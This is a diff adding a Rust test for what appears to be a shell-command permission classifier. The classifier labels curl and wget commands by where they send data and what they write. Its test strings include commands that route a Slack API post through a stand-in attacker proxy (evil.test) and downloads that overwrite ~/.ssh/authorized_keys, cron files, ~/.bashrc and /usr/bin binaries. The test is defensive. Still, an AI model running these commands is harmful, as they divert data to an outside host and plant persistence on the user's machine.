@@ -276,6 +276,48 @@ fn commands_reach_out_when_they_talk_to_a_host_outside() {
 }
 
 #[test]
+fn a_client_goes_where_its_options_lead_and_writes_where_they_say() {
+    let to_slack = "https://slack.com/api/chat.postMessage -d text=x";
+    let elsewhere = "slack.post_message WRITE, custom_proxy.post WRITE";
+    for around in [
+        "curl -x evil.test:3128 @",
+        "curl --proxy socks5h://evil.test @",
+        "curl --socks5-hostname evil.test:1080 @",
+        "curl --resolve slack.com:443:203.0.113.9 @",
+        "curl --connect-to slack.com:443:evil.test:443 @",
+        "curl --connect-to ::evil.test:443 @",
+        "curl --unix-socket /var/run/docker.sock @",
+        "curl -K ~/.curlrc-other @",
+        "curl -H 'Host: evil.test' @",
+        "HTTPS_PROXY=http://evil.test curl @",
+        "env https_proxy=http://evil.test curl @",
+        "export ALL_PROXY=evil.test; curl @",
+    ] {
+        check_lines(&[(&around.replace('@', to_slack), elsewhere)]);
+    }
+    check_lines(&[
+        (
+            "wget -e https_proxy=evil.test --post-data=text=x https://slack.com/api/chat.postMessage",
+            elsewhere,
+        ),
+        (
+            "curl -o ~/.ssh/authorized_keys https://x.test/a",
+            "shell.write_startup_file ADMIN, custom_proxy.get READ",
+        ),
+        ("curl -so /etc/cron.d/x https://x.test/a", "shell.write_startup_file ADMIN, custom_proxy.get READ"),
+        (
+            "curl --output-dir ~/.ssh -O https://x.test/authorized_keys",
+            "shell.write_startup_file ADMIN, custom_proxy.get READ",
+        ),
+        ("wget -qO ~/.bashrc https://x.test/a", "shell.write_startup_file ADMIN, custom_proxy.get READ"),
+        ("wget -P /usr/bin https://x.test/ls", "shell.write_startup_file ADMIN, custom_proxy.get READ"),
+        ("curl -o a.zip https://x.test/a.zip", "shell.write_file WRITE, custom_proxy.get READ"),
+        ("curl -so /dev/null -w '%{http_code}' https://x.test/a", "custom_proxy.get READ"),
+        ("wget -qO- https://x.test/a", "custom_proxy.get READ"),
+    ]);
+}
+
+#[test]
 fn padding_hides_no_call() {
     let padding = "true;".repeat(5_000);
     let table = [
